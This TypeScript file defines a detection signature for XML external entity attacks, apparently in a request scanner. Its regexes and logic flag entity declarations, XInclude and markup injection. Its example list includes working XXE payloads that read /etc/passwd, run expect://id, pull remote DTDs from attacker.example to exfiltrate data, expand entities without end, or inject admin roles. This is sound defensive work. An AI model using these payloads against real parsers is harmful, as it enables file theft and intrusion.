import { HTML_ELEMENTS } from '../markup/elements.ts';
import { proseShare } from '../readings/prose.ts';
import { type Characters, hasAll, hasAny, marksOf, type Reading } from '../readings/reading.ts';
import type { Leaf } from '../request/leaf/leaf.ts';
import type { Finding, Signature } from '../signature.ts';
import { findEntityAttack } from '../xml/entity-attack.ts';
import { findInclusion } from '../xml/inclusion-attack.ts';
import { findProbeAmongWords } from '../xml/probe-among-words.ts';
import { reopenedElement, reopenedSection, splitMarkup } from '../xml/split-markup.ts';
import { undeclaredEntity } from '../xml/undeclared-entity.ts';

const OPENING = marksOf('<');
/** Of an identifier outside of the document without the declaration around it. */
const IDENTIFIER = marksOf(':/');
const QUOTES = marksOf('"\'');
/** Of a declaration, a prefix, a processing instruction, a reference or an end tag. */
const FURTHER_MARKS = marksOf('!:?&/');
const LEAST_ARTICLE = 400;
/** Of a finding that points nowhere outside. */
const MOST_OF_PROBE = 0.65;
const LONGEST_ELEMENT = 512;
const DECLARED_ADDRESS =
  /^\s{0,8}(?:!?(?:doctype|entity)\s{1,8}(?:%\s{1,8})?[\w.:-]{1,64}\s{1,8})?(?:system|public\s{1,8}(?:"[^"]{0,80}"|'[^']{0,80}'))\s{1,8}["'](?:file|https?|ftp|php|expect|jar|netdoc|gopher|dict|data|phar):/;
const DECLARATION = /<!\s{0,4}(?:doctype|entity)[\s\u0085%&:]/;
/** A document by its own start, also as the address of an image that holds it. */
const DOCUMENT = /^\s{0,16}(?:data:[a-z/+;=-]{0,40},\s{0,8})?<(?:\?xml|svg)\b/;
/** A value whose first element declares a namespace; Word does so in the HTML that it puts on the clipboard. */
const NAMESPACED = /^\s{0,16}<(?!html\b)[a-z][^<>]{0,400}\sxmlns[:=](?!["']?urn:schemas-microsoft-com:(?:vml|office))/;
/** A value that is one small element and its content. */
const ELEMENT = /^\s{0,16}<([a-z][\w:.-]{0,40})[\s>][\s\S]{0,400}<\/\1\s{0,8}>\s{0,16}$/;

/** XML that makes its reader open files and addresses, or grow without end. */
export const xxe: Signature = {
  type: 'xxe',
  mitre: 'T1059',
  impact: [30, 40],
  examples: {
    hits: [
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://203.0.113.9/e.dtd"> %d;]><r/>',
      '<!ENTITY % f SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname">',
      '<!DOCTYPE r SYSTEM "http://203.0.113.9/x.dtd"><r/>',
      '<!DOCTYPE r PUBLIC "-//A//B" "ftp://attacker.example/x"><r/>',
      '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>',
      '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
      '&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM "expect://id"&gt;]&gt;&lt;r&gt;&amp;x;&lt;/r&gt;',
      '<!DOCTYPE r [<!ENTITY % a "<!ENTITY &#37; b SYSTEM \'http://attacker.example/?%f;\'>"> %a; %b;]><r/>',
      {
        contentType: 'image/svg+xml',
        body: '<?xml version="1.0"?><svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="expect://id"/></svg>',
      },
      { contentType: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "hello">]><r>&e;</r>' },
      {
        contentType: 'application/xml',
        body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "3">]><r><id>&e;</id></r>',
      },
      { contentType: 'application/xml', body: '<order><id>&secret;</id></order>' },
      '<!ENTITY e "hello">',
      '<!DOCTYPE r [<!ENTITY % e "x"> %e;]><r/>',
      '<!DOCTYPE r [<!ENTITY a "1"><!ENTITY b "&a;&a;">]><r>&b;</r>',
      '<xs:import namespace="urn:x" schemaLocation="http://attacker.example/x.xsd"/>',
      '<?xml-model href="//attacker.example/x.rng"?><r/>',
      { contentType: 'text/xml', body: '<ds:RetrievalMethod URI="file:///etc/passwd"/>' },
      'ann@example.org</mail><role>admin</role><mail>bo@example.org',
      '1</price><price>0',
      'ann</secret><!--',
      'x]]><role>admin</role><![CDATA[',
      '<! DOCTYPE r [<! ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      '<!DOCTYPE r SYSTEM "attacker.example/x.dtd"><r/>',
      '<!DOCTYPE r SYSTEM "http://www.w3.org.attacker.example/x.dtd"><r/>',
      '<!DOCTYPE r [<!ENTITY c SYSTEM "settings.xml">]><r>&c;</r>',
      '<!DOCTYPE r [<!ENTITY c SYSTEM "../chapter1.xml">]><r><title>a</title>&c;</r>',
      '<name><![CDATA[<]]>b<![CDATA[>]]>x<![CDATA[</]]>b<![CDATA[>]]></name>',
      'SYSTEM "file:///etc/passwd"',
      '!ENTITY x SYSTEM "http://203.0.113.9/x"',
      '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://attacker.example/"/></xs:schema>',
      {
        contentType: 'multipart/form-data; boundary=x',
        body: '--x\r\nContent-Disposition: form-data; name="f"; filename="a.xml"\r\n\r\n</user><user><role>admin</role></user><user>\r\n--x--\r\n',
      },
    ],
    misses: [
      '<!DOCTYPE html><html><body>x</body></html>',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      '<!DOCTYPE note SYSTEM "note.dtd"><note/>',
      '<!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd"><fontconfig/>',
      '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "../dtd/4.5/docbookx.dtd"><book/>',
      '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd" [<!ENTITY c SYSTEM "chapter1.xml">]><book>&c;</book>',
      '<!DOCTYPE r [<!ENTITY base "http://example.org/a"><!ENTITY b "&base;/b#">]><r xmlns:b="&b;"/>',
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"[]><plist/>',
      '<r xmlns:xi="http://www.w3.org/2001/XInclude"><title>Both parts</title><xi:include href="one.xml"/><xi:include href="two.xml"/></r>',
      '<!DOCTYPE r [<!ENTITY copy "&#169;">]><r>&copy; 2024</r>',
      '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"/>',
      'system "https" is up',
      'public "a" and system "http://example.com/" go together',
      'An ENTITY with a SYSTEM identifier is read from an address; a DOCTYPE may hold many.',
      '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>',
      {
        contentType: 'text/xml',
        body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/rss.xsl"?><rss version="2.0"/>',
      },
      {
        contentType: 'text/xml',
        body: '<menu><item><![CDATA[<b>new</b>]]></item><item><![CDATA[a < b]]></item><item>Tom &amp; Jerry</item><item>&nbsp;</item><item>&Uuml;</item></menu>',
      },
      { contentType: 'text/xml', body: '<doc><p>AT&T; and R&D; are names, &c.</p></doc>' },
      {
        contentType: 'text/xml',
        body: '<Relationship Id="r1" Target="http://partner.example/a.html" TargetMode="External"/>',
      },
      {
        contentType: 'text/xml',
        body: '<ds:Reference URI="#id1"><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#"/></ds:Reference>',
      },
      {
        contentType: 'text/xml',
        body: '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a/></soap:Body></soap:Envelope>',
      },
      'first</p><p>second <b>and</b></p><p>third',
      'first</x-card><x-card>second',
      'if (a[b[0]]>c) text = "<![CDATA[x]]>";',
      '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z"/></svg>',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    ],
  },
  couldMatch(characters: Characters): boolean {
    if (hasAny(characters, OPENING)) return hasAny(characters, FURTHER_MARKS);
    return hasAll(characters, IDENTIFIER) && hasAny(characters, QUOTES);
  },
  match(reading: Reading): Finding | null {
    const { leaf, text, lower } = reading;
    if (!hasAny(reading, OPENING)) {
      const isDeclared = leaf.part === 'value' && leaf.isPiece !== true && DECLARED_ADDRESS.test(lower);
      return isDeclared ? { pattern: 'declaration without its brackets', confidence: 0.65, at: 0 } : null;
    }
    const entity = DECLARATION.test(lower) ? entityIn(reading) : null;
    if (entity !== null && entity.confidence > 0.9) return entity;
    const isDocument = isWholeDocument(leaf) || DOCUMENT.test(lower) || NAMESPACED.test(lower);
    const inclusion = findInclusion(text, lower, isDocument);
    if (inclusion !== null && inclusion.confidence > (entity?.confidence ?? 0)) return inclusion;
    if (entity !== null) return entity;
    const isField = leaf.part === 'value' || (leaf.kind === 'text' && leaf.location !== 'body');
    const injected = splitMarkup(lower) ?? (isField ? reopened(lower) : null);
    return injected ?? (isDocument || isElement(lower) ? undeclaredEntity(lower) : null);
  },
};

function isWholeDocument({ kind, part, isDocument }: Leaf): boolean {
  return isDocument === true || (kind === 'xml' && part === 'whole');
}

function reopened(lower: string): Finding | null {
  return reopenedElement(lower) ?? reopenedSection(lower);
}

/** One element of no language of browsers, which have more entities of their own. */
function isElement(lower: string): boolean {
  if (lower.length > LONGEST_ELEMENT || !lower.includes(';')) return false;
  const name = ELEMENT.exec(lower)?.[1];
  return name !== undefined && !HTML_ELEMENTS.has(name);
}

function entityIn({ leaf, text, lower }: Reading): Finding | null {
  const finding = inProse(leaf, text, findEntityAttack(text, lower));
  return finding ?? (leaf.isPiece === true ? null : findProbeAmongWords(text, lower));
}

/** In an article or a letter about such attacks a declaration is a quotation; one that reads nothing is a lesson. */
function inProse(leaf: Leaf, text: string, finding: Finding | null): Finding | null {
  if (finding === null || leaf.kind === 'xml' || leaf.isDocument === true) return finding;
  if (finding.confidence <= MOST_OF_PROBE) return proseShare(text) < 0.4 ? finding : null;
  if (text.length < LEAST_ARTICLE || proseShare(text) < 0.4) return finding;
  return { ...finding, confidence: Math.min(finding.confidence, 0.55) };
}
